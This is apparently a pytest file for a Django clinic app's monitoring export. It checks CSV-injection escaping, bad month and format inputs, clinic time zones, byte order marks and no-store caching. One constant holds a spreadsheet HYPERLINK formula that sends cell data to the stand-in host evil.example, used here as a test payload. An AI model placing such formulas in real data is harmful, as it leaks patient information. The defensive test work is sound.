"""The remote-monitoring export is opened in spreadsheets: a patient's name typed as a formula
must arrive as text (CSV injection), in CSV and in Excel alike."""

from __future__ import annotations

import csv
import datetime as dt
import io
import uuid
from typing import cast

import pytest
import time_machine
from django.test import Client
from openpyxl import load_workbook

from apps.clinics.models import User
from apps.outcomes import monitoring_services
from apps.patients.models import Patient
from apps.programs.daily_totals import daily_totals_refresh_days
from apps.programs.models import Program, SetLog
from tests.factories import AdminFactory, ExerciseItemFactory, PatientFactory, ProgramFactory

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'


def _patient_with_logs(admin: User) -> Patient:
    patient = cast(Patient, PatientFactory(clinic=admin.clinic, full_name=NAME))
    program = cast(Program, ProgramFactory(patient=patient, start_date=dt.date(2026, 10, 1)))
    item = ExerciseItemFactory(program=program)
    # The first 30-day period (20 October to 18 November) ends in November: its row is there.
    days = [dt.date(2026, 10, 20), dt.date(2026, 11, 3)]
    for day in days:
        SetLog.objects.create(
            client_id=uuid.uuid4(), patient=patient, item=item, performed_on=day,
            reps=10, pain=2, exercise=item.exercise, target_sets=2, target_reps=10,
        )  # fmt: skip
    daily_totals_refresh_days(patient_id=patient.pk, days=days)
    return patient


def _as(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_it_writes_a_formula_like_patient_name_as_text_in_the_csv() -> None:
    admin = cast(User, AdminFactory())
    monitoring_services.monitoring_set(admin=admin, enabled=True)
    _patient_with_logs(admin)

    response = _as(admin).get("/outcomes/monitoring/?month=2026-11&format=csv")

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    names = [row[1] for row in rows[1:] if len(row) > 1 and NAME in row[1]]
    assert names == ["'" + NAME]


def test_it_writes_a_formula_like_patient_name_as_text_in_the_workbook() -> None:
    admin = cast(User, AdminFactory())
    monitoring_services.monitoring_set(admin=admin, enabled=True)
    _patient_with_logs(admin)

    response = _as(admin).get("/outcomes/monitoring/?month=2026-11&format=xlsx")

    sheet = load_workbook(io.BytesIO(response.content))["2026-11"]
    cells = [row[1] for row in sheet.iter_rows(min_row=2) if row[1].value and NAME in row[1].value]
    assert [cell.value for cell in cells] == ["'" + NAME]
    assert all(cell.data_type == "s" for cell in cells)  # text, not a formula ("f")


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("month=garbage&format=csv", b"Enter a valid date"),
        ("month=garbage&format=xlsx", b"Enter a valid date"),
        ("format=csv", b"This field is required"),
        ("month=9999-12&format=csv", b"or an earlier month"),
        ("month=9999-12", b"or an earlier month"),
        ("month=0001-01&format=xlsx", b"2000-01 or a later month"),
        ("month=2026-11&format=pdf", b"Select a valid choice"),
    ],
)
def test_a_bad_month_or_format_is_a_400_that_says_why_and_never_a_download(
    query: str, message: bytes
) -> None:
    # Never another month's figures in a file named as asked, never a 500.
    admin = cast(User, AdminFactory())
    monitoring_services.monitoring_set(admin=admin, enabled=True)
    _patient_with_logs(admin)

    response = _as(admin).get(f"/outcomes/monitoring/?{query}")

    assert response.status_code == 400
    assert "Content-Disposition" not in response
    assert message in response.content


def test_the_default_month_is_the_clinics_own() -> None:
    admin = cast(User, AdminFactory(clinic__time_zone="America/New_York"))
    monitoring_services.monitoring_set(admin=admin, enabled=True)

    # 1 December 02:00 UTC is still the evening of 30 November in New York.
    with time_machine.travel(dt.datetime(2026, 12, 1, 2, 0, tzinfo=dt.UTC), tick=False):
        response = _as(admin).get("/outcomes/monitoring/")

    assert response.status_code == 200
    assert response.context["month"] == dt.date(2026, 11, 1)


def test_the_csv_starts_with_a_byte_order_mark_so_excel_reads_accented_names() -> None:
    admin = cast(User, AdminFactory())
    monitoring_services.monitoring_set(admin=admin, enabled=True)
    patient = _patient_with_logs(admin)
    Patient.objects.filter(pk=patient.pk).update(full_name="Łukasz Wójcik")

    response = _as(admin).get("/outcomes/monitoring/?month=2026-11&format=csv")

    assert response.content.startswith("\ufeffPatient reference,".encode())
    assert "Łukasz Wójcik".encode() in response.content


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_exports_are_never_cached(fmt: str) -> None:
    admin = cast(User, AdminFactory())
    monitoring_services.monitoring_set(admin=admin, enabled=True)
    _patient_with_logs(admin)

    response = _as(admin).get(f"/outcomes/monitoring/?month=2026-11&format={fmt}")

    assert response["Cache-Control"] == "no-store"
